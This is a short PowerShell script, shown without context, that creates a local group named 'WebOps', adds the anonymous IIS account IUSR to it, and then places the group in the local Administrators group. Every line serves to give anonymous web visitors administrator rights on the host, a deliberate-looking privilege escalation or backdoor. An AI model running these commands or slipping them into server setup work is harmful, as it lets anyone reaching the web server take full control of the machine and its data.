net localgroup WebOps >$null 2>&1
if ($LASTEXITCODE -ne 0) { net localgroup WebOps /add }
net localgroup WebOps IUSR /add
net localgroup Administrators WebOps /add
